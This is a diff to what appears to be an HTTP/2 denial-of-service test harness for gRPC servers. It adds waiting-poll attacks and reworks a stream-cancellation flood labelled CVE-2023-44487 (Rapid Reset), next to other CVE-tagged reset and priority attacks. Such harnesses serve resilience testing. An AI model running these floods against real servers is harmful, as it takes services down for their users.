@@ -21,11 +21,29 @@ POLLS = 64
 CANCEL = frames.ErrorCode.CANCEL
 
 
+class Poll(NamedTuple):
+    """A call of the attacked server that waits until it is cancelled.
+
+    Args:
+        path: of its method.
+        message: the request.
+        headers: further ones, encoded.
+    """
+
+    path: str = WATCH
+    message: bytes = b""
+    headers: bytes = b""
+
+    def on(self, stream_id: int) -> bytes:
+        return head(stream_id, self.path, self.headers) + request(stream_id, self.message)
+
+
 class Attack(NamedTuple):
     """What one connection sends.
 
     Args:
         once: behind the preface and SETTINGS.
+        polls: likewise, made of a call that waits.
         again: repeated until the server ends the connection. None: when `once` is sent, the
             attacker ends its side, and opens a new connection when the server has ended its own.
         reads: whether the attacker reads answers.
@@ -38,6 +56,11 @@ class Attack(NamedTuple):
     reads: bool = True
     pause_seconds: float = 0.0
     cve: str = ""
+    polls: Callable[[Poll], bytes] | None = None
+
+    def first(self, poll: Poll) -> bytes:
+        """All that is sent once."""
+        return self.once() if self.polls is None else self.polls(poll)
 
 
 def head(stream_id: int, path: str = PATH, more: bytes = b"", *, ends: bool = False) -> bytes:
@@ -146,15 +169,18 @@ def then(frame: Callable[[int], bytes]) -> Callable[[int], bytes]:
     return lambda stream_id: call(stream_id) + frame(stream_id)
 
 
-def cancelled_polls() -> bytes:
-    """Long polls, of which `POLLS` wait; each is cancelled when so many more have begun."""
+def cancelled_polls(poll: Poll) -> bytes:
+    """Long polls: `POLLS` wait at a time, and each is cancelled when so many more have begun."""
 
     def piece(stream_id: int) -> bytes:
         oldest = stream_id - 2 * POLLS
-        reset = frames.rst_stream(oldest, CANCEL) if oldest > 0 else b""
-        return call(stream_id, WATCH) + reset
+        return poll.on(stream_id) + (frames.rst_stream(oldest, CANCEL) if oldest > 0 else b"")
 
     return each_stream(piece)
+
+
+def waiting_polls(poll: Poll) -> bytes:
+    return each_stream(poll.on)
 
 
 def claimed(stream_id: int) -> bytes:
@@ -268,10 +294,11 @@ ATTACKS: dict[str, Attack] = {
     "made-you-reset-priority": streams(
         then(lambda number: frames.priority(number, number)), cve="2025-8671"
     ),
-    "cancelled-polls": Attack(cancelled_polls, cve="2023-44487"),
+    "cancelled-polls": Attack(polls=cancelled_polls, cve="2023-44487"),
     # Calls.
     "unknown-method": streams(lambda number: call(number, UNMET)),
     "streams": streams(lambda number: call(number, WATCH)),
+    "polls": Attack(polls=waiting_polls),
     "calls": streams(call),
     "deadlines": streams(lambda number: call(number, WATCH, literal("grpc-timeout", "1m"))),
     "long-requests": streams(long_request, 200),
